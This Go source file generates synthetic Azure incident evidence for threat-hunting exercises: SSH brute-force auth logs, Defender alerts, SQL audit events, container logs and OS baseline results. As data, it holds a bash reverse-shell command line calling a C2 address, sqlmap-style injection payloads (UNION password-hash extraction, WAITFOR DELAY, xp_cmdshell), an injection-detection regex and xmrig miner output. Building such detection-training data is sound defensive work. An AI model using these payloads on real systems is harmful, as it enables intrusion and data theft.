package sample

import (
	"fmt"
	"sort"
	"strings"
	"time"

	"github.com/cloudhunt/cloudhunt/internal/source/azure"
)

// The VMs' own evidence and what Defender and the workspace know about
// them: /var/log/secure, security alerts, SQL audit, container output and
// the OS baseline.

// authLine is one line of /var/log/secure.
type authLine struct {
	t    time.Time
	host string
	msg  string // "sshd[1234]: …"
}

// raw is the line as written: RFC 3164 ("Mar  8 06:10:01 host prog[pid]: …").
func (l *authLine) raw() string {
	return l.t.Format("Jan _2 15:04:05") + " " + l.host + " " + l.msg
}

func writeLinuxAuth(w *azWorld, o *azOut, scale float64) error {
	r := newRand(w.seed, 0xa2090)
	add := func(t time.Time, vm *azVM, format string, args ...any) {
		o.authLines = append(o.authLines, &authLine{t: t.Truncate(time.Second), host: vm.name, msg: fmt.Sprintf(format, args...)})
	}
	hosts := []*azVM{w.webVM, w.jumpVM}
	for i := 0; i < scaled(120, scale); i++ {
		t, vm := azRandTime(r), pick(r, hosts)
		pid := 1000 + r.IntN(60000)
		switch r.IntN(4) {
		case 0:
			port := ephemeralPort(r)
			add(t, vm, "sshd[%d]: Accepted publickey for azureuser from %s port %d ssh2: RSA SHA256:q2f8Jx0c1qv4mWcE0vX1g1nQm2yJcD9m4hT5bR7kL0s", pid, w.jumpVM.privateIP, port)
			add(t, vm, "sshd[%d]: pam_unix(sshd:session): session opened for user azureuser(uid=1000) by (uid=0)", pid)
			add(t.Add(time.Duration(1+r.IntN(3))*time.Second), vm, "systemd-logind[812]: New session %d of user azureuser.", 1+r.IntN(900))
		case 1:
			add(t, vm, "sudo[%d]: azureuser : TTY=pts/0 ; PWD=/home/azureuser ; USER=root ; COMMAND=/usr/bin/dnf -y update", pid)
			add(t, vm, "sudo[%d]: pam_unix(sudo:session): session opened for user root(uid=0) by azureuser(uid=1000)", pid)
		default:
			add(t, vm, "CROND[%d]: pam_unix(crond:session): session opened for user root(uid=0) by (uid=0)", pid)
			add(t.Add(time.Second), vm, "CROND[%d]: pam_unix(crond:session): session closed for user root", pid)
		}
	}
	// An admin mistypes a password on the jump host three times: benign.
	for k := 0; k < 3; k++ {
		add(azAt(14, 2, 10+k*6, 0), w.jumpVM, "sshd[%d]: Failed password for azureuser from %s port %d ssh2", 7301+k, w.officeIP, 51000+k*7)
	}
	add(azAt(14, 2, 40, 0), w.jumpVM, "sshd[7304]: Accepted password for azureuser from %s port 51030 ssh2", w.officeIP)
	// The brute force against web-vm-01, then the way in.
	users := []string{"admin", "root", "test", "oracle", "ubuntu", "user", "postgres", "git", "azureuser", "ftpuser"}
	for i := 0; i < 42; i++ {
		t := azAt(6, 10, 0, 0).Add(time.Duration(i*21) * time.Second)
		u, pid, port := users[i%len(users)], 22000+i*3, 40000+i*17
		switch u {
		case "root", "azureuser":
			add(t.Add(2*time.Second), w.webVM, "sshd[%d]: Failed password for %s from %s port %d ssh2", pid, u, w.sshIP, port)
		default:
			add(t.Add(time.Second), w.webVM, "sshd[%d]: Invalid user %s from %s port %d", pid, u, w.sshIP, port)
			add(t.Add(3*time.Second), w.webVM, "sshd[%d]: Failed password for invalid user %s from %s port %d ssh2", pid, u, w.sshIP, port)
		}
		add(t.Add(4*time.Second), w.webVM, "sshd[%d]: Connection closed by %s port %d [preauth]", pid, w.sshIP, port)
	}
	add(azAt(6, 25, 30, 0), w.webVM, "sshd[23000]: Accepted password for azureuser from %s port 40901 ssh2", w.sshIP)
	add(azAt(6, 25, 30, 0), w.webVM, "sshd[23000]: pam_unix(sshd:session): session opened for user azureuser(uid=1000) by (uid=0)")

	byTime(o.authLines, func(l *authLine) time.Time { return l.t })
	o.rows["LinuxAuth_CL"] += int64(len(o.authLines))
	for _, vm := range hosts {
		var b strings.Builder
		for _, l := range o.authLines {
			if l.host == vm.name {
				b.WriteString(l.raw())
				b.WriteByte('\n')
			}
		}
		// The responder's triage copy: one folder per host and year.
		if err := o.writeFile("hosts/"+vm.name+"/2024/var/log/secure", []byte(b.String())); err != nil {
			return err
		}
	}
	return nil
}

// secAlert is a Defender for Cloud alert.
type secAlert struct {
	t           time.Time
	id          string
	display     string
	alertType   string
	severity    string
	intent      string
	vm          *azVM
	entities    []obj
	extended    obj
	description string
}

func writeAlerts(w *azWorld, o *azOut, scale float64) error {
	r := newRand(w.seed, 0xa20a0)
	newID := func(t time.Time) string {
		// Defender's ids: reversed ticks, then a GUID.
		return fmt.Sprint(2518000000000000000-t.UnixNano()/100) + "_" + randGUID(r)
	}
	add := func(a *secAlert) {
		a.id = newID(a.t)
		o.alerts = append(o.alerts, a)
	}
	add(&secAlert{t: azAt(6, 26, 12, 0), display: "Failed SSH brute force attack", alertType: "VM_SshBruteForceFailed", severity: "Medium",
		intent: "CredentialAccess", vm: w.webVM,
		entities: []obj{{{"$id", "2"}, {"Address", w.sshIP}, {"Type", "ip"}}, {{"$id", "3"}, {"HostName", w.webVM.name}, {"Type", "host"}}},
		extended: obj{{"Top user names with failed sign in attempts", "admin,root,test"}, {"Number of failed authentication attempts to host", "42"},
			{"Attacker source IP", w.sshIP}, {"resourceType", "Virtual Machine"}},
		description: "Failed brute force attacks were detected from the following attackers: IP " + w.sshIP + "."})
	add(&secAlert{t: azAt(6, 40, 51, 0), display: "Possible reverse shell", alertType: "VM_ReverseShell", severity: "High",
		intent: "Execution", vm: w.webVM,
		entities: []obj{{{"$id", "2"}, {"Address", w.c2IP}, {"Type", "ip"}}, {{"$id", "3"}, {"HostName", w.webVM.name}, {"Type", "host"}},
			{{"$id", "4"}, {"Name", "azureuser"}, {"Type", "account"}}},
		extended: obj{{"File Path", "/usr/bin/bash"}, {"File Name", "bash"},
			{"File Sha256", "0c6b3d2a6b5f1f0e6d7b2b3f8e9f3a1c5a1d7f6e4b2c8a9d0e1f2a3b4c5d6e7f"},
			{"User Name", "azureuser"}, {"Machine Name", w.webVM.name}, {"Command Line", "bash -i >& /dev/tcp/" + w.c2IP + "/443 0>&1"},
			{"resourceType", "Virtual Machine"}},
		description: "Analysis of process data found a suspicious command line that is consistent with a reverse shell."})
	// Benign and look-alike alerts elsewhere in the week.
	add(&secAlert{t: time.Unix(bgStart+day+10*hour, 0).UTC(), display: "Antimalware Action Taken", alertType: "AntimalwareActionTaken",
		severity: "Low", intent: "Execution", vm: w.vms[4],
		entities:    []obj{{{"$id", "2"}, {"HostName", w.vms[4].name}, {"Type", "host"}}},
		extended:    obj{{"File Path", "C:\\Users\\public\\Downloads\\eicar.com"}, {"Machine Name", w.vms[4].name}, {"resourceType", "Virtual Machine"}},
		description: "Microsoft Antimalware has taken an action to protect this machine from malware."})
	add(&secAlert{t: time.Unix(bgStart+3*day+15*hour, 0).UTC(), display: "Potential reverse shell activity detected (Preview)", alertType: "K8S.NODE_ReverseShell",
		severity: "Informational", intent: "Execution", vm: w.vms[3],
		entities:    []obj{{{"$id", "2"}, {"HostName", w.vms[3].name}, {"Type", "host"}}},
		extended:    obj{{"File Path", "/usr/bin/nc"}, {"File Name", "nc"}, {"Machine Name", w.vms[3].name}, {"resourceType", "Virtual Machine"}},
		description: "A health probe using netcat matched a reverse shell pattern; dismissed by the SOC."})
	o.rows["SecurityAlert"] += int64(len(o.alerts))

	var out []map[string]any
	for _, a := range o.alerts {
		vmID := w.vmID(a.vm)
		out = append(out, map[string]any{
			"alertDisplayName": a.display, "alertType": a.alertType,
			"alertUri":          "https://portal.azure.com/#blade/Microsoft_Azure_Security_AzureDefenderForData/AlertBlade/alertId/" + a.id,
			"compromisedEntity": a.vm.name, "correlationKey": randGUID(r), "description": a.description,
			"endTimeUtc": iso7(a.t.Add(time.Minute)), "entities": a.entities, "extendedLinks": []any{}, "extendedProperties": a.extended,
			"id":     "/subscriptions/" + w.sub + "/resourceGroups/" + a.vm.rg + "/providers/Microsoft.Security/locations/eastus/alerts/" + a.id,
			"intent": a.intent, "isIncident": false, "name": a.id, "processingEndTimeUtc": iso7(a.t.Add(3 * time.Minute)),
			"productComponentName": "Servers", "productName": "Microsoft Defender for Cloud",
			"remediationSteps": []string{"Review the process and the user that ran it.", "Isolate the machine if the activity is not legitimate."},
			"resourceGroup":    a.vm.rg, "resourceIdentifiers": []obj{{{"azureResourceId", vmID}, {"type", "AzureResource"}}},
			"severity": a.severity, "startTimeUtc": iso7(a.t), "status": "Active", "subTechniques": []any{}, "supportingEvidence": nil,
			"systemAlertId": a.id, "techniques": []any{}, "timeGeneratedUtc": iso7(a.t.Add(2 * time.Minute)),
			"type": "Microsoft.Security/Locations/alerts", "vendorName": "Microsoft", "version": "2022-01-01.0",
		})
	}
	return o.writeJSON("cli/az-security-alert-list.json", out, "  ")
}

// sqlEvent is one Azure SQL audit event (AzureDiagnostics, legacy schema).
type sqlEvent struct {
	t         time.Time
	action    string // "BCM " (batch completed) or "LGIS" (login succeeded)
	statement string
	ip        string
	app       string
	principal string
	session   int
}

// The SQL injection markers of az-database-scanning.
var sqlInjection = regexpMust(`(?i)(union\s+select|or\s+1\s*=\s*1|waitfor\s+delay|xp_cmdshell)`)

func writeSQLAudit(w *azWorld, o *azOut, scale float64) error {
	r := newRand(w.seed, 0xa20b0)
	templates := []string{
		"SELECT id, name, email FROM dbo.customers WHERE id = @p0",
		"UPDATE dbo.orders SET status = @p0 WHERE id = @p1",
		"INSERT INTO dbo.audit_trail (actor, action, at) VALUES (@p0, @p1, SYSUTCDATETIME())",
		"SELECT TOP (50) o.id, o.total FROM dbo.orders o WHERE o.customer_id = @p0 ORDER BY o.created_at DESC",
		"SELECT region FROM dbo.sales UNION ALL SELECT region FROM dbo.sales_archive", // no injection: UNION ALL SELECT
	}
	// A long benign report, just under the length threshold.
	report := "SELECT c.id, c.name, c.email, c.created_at, " + strings.Repeat("SUM(CASE WHEN o.status = 'shipped' THEN o.total ELSE 0 END) AS shipped_total, ", 9) +
		"COUNT(o.id) AS orders FROM dbo.customers c LEFT JOIN dbo.orders o ON o.customer_id = c.id GROUP BY c.id, c.name, c.email, c.created_at"
	if len(report) >= 1000 {
		return fmt.Errorf("sample: the benign report query is %d characters, want under 1000", len(report))
	}
	templates = append(templates, report)
	apps := []*azVM{w.vms[3], w.vms[4]}
	for i := 0; i < scaled(250, scale); i++ {
		t := azRandTime(r)
		e := &sqlEvent{t: t, action: "BCM ", statement: pick(r, templates), ip: pick(r, apps).privateIP,
			app: "Core Microsoft SqlClient Data Provider", principal: "app_orders", session: 50 + r.IntN(200)}
		if r.IntN(8) == 0 {
			e.action, e.statement = "LGIS", ""
		}
		o.sqlAudit = append(o.sqlAudit, e)
	}
	// sqlmap against the customer search page, through the web app's
	// connection string.
	long := "SELECT * FROM dbo.customers WHERE name LIKE '%a' AND 7351=CONVERT(INT,(SELECT CHAR(113)+CHAR(107)+CHAR(106)+CHAR(118)+CHAR(113)+(SELECT (CASE WHEN (7351=7351) THEN CHAR(49) ELSE CHAR(48) END))+" +
		strings.Repeat("CHAR(113)+CHAR(122)+CHAR(120)+CHAR(98)+CHAR(113)+", 18) + "CHAR(113))) AND '%'='%'"
	attacks := []string{
		"SELECT * FROM dbo.customers WHERE name LIKE '%a' AND 4512=4512 AND '%'='%'", // a probe, not a finding
		"SELECT * FROM dbo.customers WHERE name LIKE '%a' OR 1=1 --%'",
		"SELECT * FROM dbo.customers WHERE name LIKE '%a' UNION SELECT NULL,name,password_hash,NULL FROM dbo.users--%'",
		"SELECT * FROM dbo.customers WHERE name LIKE '%a'; WAITFOR DELAY '0:0:5'--%'",
		"SELECT * FROM dbo.customers WHERE name LIKE '%a'; EXEC master..xp_cmdshell 'whoami'--%'",
		long,
	}
	for i, s := range attacks {
		o.sqlAudit = append(o.sqlAudit, &sqlEvent{t: azAt(13, 0, 5+i*7, 0), action: "BCM ", statement: s, ip: w.sqlIP,
			app: "sqlmap/1.8.2#stable", principal: "app_orders", session: 311})
	}
	byTime(o.sqlAudit, func(e *sqlEvent) time.Time { return e.t })
	o.rows["AzureDiagnostics"] += int64(len(o.sqlAudit))

	rid := strings.ToUpper("/subscriptions/" + w.sub + "/resourceGroups/rg-data/providers/Microsoft.Sql/servers/sql-contoso-prod/databases/customers")
	rows := make([]laRow, len(o.sqlAudit))
	for i, e := range o.sqlAudit {
		name := map[string]string{"BCM ": "BATCH COMPLETED", "LGIS": "DATABASE AUTHENTICATION SUCCEEDED"}[e.action]
		rows[i] = laRow{"Category": "SQLSecurityAuditEvents", "OperationName": "AuditEvent", "Resource": "CUSTOMERS",
			"ResourceGroup": "RG-DATA", "ResourceId": rid, "_ResourceId": strings.ToLower(rid), "ResourceProvider": "MICROSOFT.SQL",
			"ResourceType": "SERVERS/DATABASES", "SourceSystem": "Azure", "SubscriptionId": w.sub, "_SubscriptionId": w.sub,
			"TenantId": w.workspace, "TimeGenerated": e.t, "action_id_s": e.action, "action_name_s": name, "statement_s": e.statement,
			"client_ip_s": e.ip, "server_principal_name_s": e.principal, "database_principal_name_s": "dbo", "database_name_s": "customers",
			"application_name_s": e.app, "host_name_s": "", "succeeded_s": "true", "event_time_t": e.t, "session_id_d": float64(e.session),
			"affected_rows_d": float64(0), "response_rows_d": float64(len(e.statement) % 40), "duration_milliseconds_d": float64(1 + len(e.statement)%17),
			"class_type_s": "DB", "LogicalServerName_s": "sql-contoso-prod"}
	}
	return o.writeJSON("exports/AzureDiagnostics-SQLSecurityAuditEvents-api.json", laAPI(azure.AzureDiagnostics, rows), "")
}

// containerLog is one line of container output.
type containerLog struct {
	t       time.Time
	group   string
	image   string
	message string
}

func writeContainers(w *azWorld, o *azOut, scale float64) error {
	r := newRand(w.seed, 0xa20c0)
	// The nightly report job, every day of the week.
	for d := int64(0); d < 7; d++ {
		start := time.Unix(bgStart+d*day+hour, int64(r.IntN(1e9))).UTC()
		for k := 0; k < scaled(6, scale); k++ {
			t := start.Add(time.Duration(k*7+r.IntN(5)) * time.Second)
			o.containers = append(o.containers, &containerLog{t: t, group: "cg-nightly-report", image: "contoso.azurecr.io/reports:2.4.1",
				message: fmt.Sprintf("%s INFO report: batch %d of day %s written (%d rows)", t.Format("2006-01-02T15:04:05.000Z"), k+1, t.Format("2006-01-02"), 1000+r.IntN(9000))})
		}
	}
	// The miner the attacker deployed.
	start := azAt(9, 52, 11, 0)
	for k := 0; k < 20; k++ {
		t := start.Add(time.Duration(k*60+r.IntN(3)) * time.Second)
		stamp := t.Format("[2006-01-02 15:04:05.000]")
		msg := fmt.Sprintf("%s  miner    speed 10s/60s/15m %.1f %.1f n/a H/s max %.1f H/s", stamp, 2100+r.Float64()*300, 2150+r.Float64()*200, 2500+r.Float64()*100)
		switch k {
		case 0:
			msg = stamp + "  net      use pool pool.supportxmr.com:443 TLSv1.3 141.94.96.144"
		case 1:
			msg = stamp + "  net      new job from pool.supportxmr.com:443 diff 120000 algo rx/0 height 3104512"
		}
		o.containers = append(o.containers, &containerLog{t: t, group: "cg-batch-worker", image: "docker.io/xmrig/xmrig:6.21.0", message: msg})
	}
	byTime(o.containers, func(c *containerLog) time.Time { return c.t })
	o.rows["ContainerInstanceLog_CL"] += int64(len(o.containers))
	rows := make([]laRow, len(o.containers))
	for i, c := range o.containers {
		rows[i] = laRow{"TenantId": w.workspace, "SourceSystem": "RestAPI", "TimeGenerated": c.t, "Computer": "",
			"ContainerGroup_s": c.group, "ContainerID_s": fmt.Sprintf("caas-%x", hashOf(w.seed, hashString(c.group))),
			"ContainerImage_s": c.image, "ContainerName_s": strings.TrimPrefix(c.group, "cg-"), "Location_s": "eastus",
			"OSType_s": "Linux", "Source_s": "stdout", "Message": c.message, "ResourceGroup": "rg-prod", "SubscriptionId": w.sub,
			"_ResourceId": "/subscriptions/" + w.sub + "/resourcegroups/rg-prod/providers/microsoft.containerinstance/containergroups/" + c.group}
	}
	return o.writeJSON("exports/ContainerInstanceLog_CL-api.json", laAPI(azure.ContainerInstanceLogCL, rows), "")
}

// baselineRow is one rule of one machine's OS baseline assessment.
type baselineRow struct {
	vm                  *azVM
	cce, desc, severity string
	failed              bool
	t                   time.Time
}

func writeBaseline(w *azWorld, o *azOut, scale float64) error {
	rules := []struct{ cce, desc, severity string }{
		{"CCE-4431-3", "Ensure SSH PasswordAuthentication is disabled", "Critical"},
		{"CCE-27471-2", "Ensure SSH root login is disabled", "Critical"},
		{"CCE-14011-1", "Ensure permissions on /etc/shadow are configured", "Important"},
		{"CCE-3561-8", "Ensure the firewall is enabled", "Important"},
		{"CCE-4241-6", "Ensure password expiration is 365 days or less", "Warning"},
		{"CCE-4220-0", "Ensure a banner is configured", "Informational"},
		{"CCE-80171-2", "Ensure auditd service is enabled", "Warning"},
	}
	// Which rules each machine fails.
	fails := map[string]map[string]bool{
		w.webVM.name:  {"CCE-4431-3": true, "CCE-27471-2": true, "CCE-3561-8": true, "CCE-4220-0": true},
		w.jumpVM.name: {"CCE-4241-6": true, "CCE-4220-0": true}, // low-severity only: look-alikes
		w.vms[3].name: {},
	}
	for _, vm := range []*azVM{w.webVM, w.jumpVM, w.vms[3]} {
		for i, rule := range rules {
			o.baseline = append(o.baseline, &baselineRow{vm: vm, cce: rule.cce, desc: rule.desc, severity: rule.severity,
				failed: fails[vm.name][rule.cce], t: azAt(2, 0, 3, 0).Add(time.Duration(i) * 41 * time.Millisecond)})
		}
	}
	sort.SliceStable(o.baseline, func(i, j int) bool { return o.baseline[i].t.Before(o.baseline[j].t) })
	o.rows["SecurityBaseline"] += int64(len(o.baseline))
	rows := make([]laRow, len(o.baseline))
	for i, b := range o.baseline {
		result, actual := "Passed", "Compliant"
		if b.failed {
			result, actual = "Failed", "Non-compliant"
		}
		rows[i] = laRow{"ActualResult": actual, "AnalyzeResult": result, "AssessmentId": w.guidOf("assessment", b.vm.name),
			"BaselineRuleType": "Command", "BaselineType": "Linux", "CceId": b.cce, "Computer": b.vm.name,
			"ComputerEnvironment": "Azure", "Description": b.desc, "ExpectedResult": "Compliant", "OSName": "Linux",
			"Resource": b.vm.name, "ResourceGroup": b.vm.rg, "ResourceId": w.vmID(b.vm), "_ResourceId": strings.ToLower(w.vmID(b.vm)),
			"ResourceProvider": "Microsoft.Compute", "ResourceType": "virtualMachines", "RuleSetting": b.desc,
			"RuleSeverity": b.severity, "SourceComputerId": w.guidOf("computer", b.vm.name), "SourceSystem": "OpsManager",
			"SubscriptionId": w.sub, "_SubscriptionId": w.sub, "TimeGenerated": b.t}
	}
	return o.writeJSON("exports/SecurityBaseline-query.json", azRows(azure.SecurityBaseline, rows), "  ")
}
